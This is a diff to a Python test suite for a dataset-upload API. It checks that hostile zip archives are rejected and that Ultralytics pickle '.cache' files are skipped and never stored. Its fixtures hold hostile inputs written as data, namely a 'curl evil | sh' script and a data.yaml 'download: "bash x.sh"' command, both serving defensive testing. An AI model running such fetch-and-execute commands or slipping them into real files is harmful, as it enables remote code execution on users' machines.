@@ -164,8 +164,6 @@ HOSTILE_ARCHIVES = [
      "images/train/evil.png", "symbolic link"),
     ("fifo", lambda: make_zip(valid_files(), special={"images/train/evil.png": stat.S_IFIFO | 0o644}),
      "images/train/evil.png", "device, pipe"),
-    ("pickle-cache", lambda: make_zip(valid_files() | {"labels/train.cache": b"\x80\x04evil"}),
-     "labels/train.cache", "unpickles"),
     ("script", lambda: make_zip(valid_files() | {"get.sh": b"curl evil | sh"}), "get.sh", "unexpected file type"),
     ("duplicate", lambda: make_zip(valid_files() | {"images/train/./0.png": b"x"}), "images/train/./0.png", "twice"),
     ("download", lambda: make_zip(valid_files() | {"data.yaml": (DATA_YAML + 'download: "bash x.sh"\n').encode()}),
@@ -211,6 +209,18 @@ def test_a_hostile_archive_is_a_fast_400_naming_the_entry(build, path, word, bob
     assert elapsed < 2.0
     assert not Dataset.objects.exists()
     assert_nothing_written(storage)
+
+
+def test_ultralytics_label_caches_in_an_archive_are_skipped_never_stored(bob, storage):
+    """Ultralytics unpickles ``*.cache`` files: a zip of a folder trained on locally holds them.
+    They were refused (the user re-zipped without them; `yoloq dataset push` of the folder left them
+    out); now they are skipped and named, and never written."""
+    evil = {"labels/train.cache": b"\x80\x04evil", "labels/val.CACHE": b"\x80\x04evil"}
+    response = api_client(bob).post("/api/v1/datasets/", {"file": upload(make_zip(valid_files() | evil)),
+                                                          "name": "x"}, format="multipart")
+    assert response.status_code == 201, response.content[:500]
+    assert response.json()["skipped"] == ["labels/train.cache", "labels/val.CACHE"]
+    assert not [p for p in storage.rglob("*") if p.name.lower().endswith(".cache")]
 
 
 @pytest.mark.parametrize(("content", "word"), [
